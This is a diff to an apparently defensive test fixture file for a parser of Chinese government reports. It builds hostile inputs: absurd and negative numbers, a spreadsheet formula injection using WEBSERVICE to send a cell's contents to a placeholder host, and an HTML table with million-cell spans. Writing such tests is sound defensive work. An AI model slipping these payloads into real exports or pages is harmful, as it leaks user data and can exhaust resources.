@@ -56,10 +56,11 @@ FLAGGED = {  # hostile, but reports: loaded with their numbers flagged (or under
     "absurd.txt": lambda: hostile.with_new_received("12345678901234567890123"),
     "negative.txt": lambda: hostile.with_new_received("-1772", hostile.SAMPLES / "fuxin-taiping-office-2023.txt"),
     # an agency named as a spreadsheet formula: loaded, and exported as text (tests/pipelines/test_export_safety.py)
-    "formula.txt": lambda: hostile.GOOD_TEXT.read_text(encoding="utf-8").replace(
-        "\n", "\n=WEBSERVICE(\"http://x?\"&B2)人民政府\n", 1),
+    "formula.txt": lambda: (hostile.SAMPLES / "qidong-office-2023.txt").read_text(encoding="utf-8").replace(
+        "啟東市", "=WEBSERVICE(\"http://x?\"&B2)").replace("启东市", "=WEBSERVICE(\"http://x?\"&B2)"),
     # a table whose cells span a million rows and columns: the grid clamps the spans
-    "span_bomb.html": lambda: hostile._report_html(hostile.GOOD_TEXT.read_text(encoding="utf-8")).decode("utf-8").replace(
+    "span_bomb.html": lambda: hostile._report_html(
+        (hostile.SAMPLES / "suifenhe-business-env-2023.txt").read_text(encoding="utf-8")).decode("utf-8").replace(
         "</body>", "<table><tr><td colspan=1000000 rowspan=1000000>x</td><td>1</td></tr></table></body>"),
 }
 
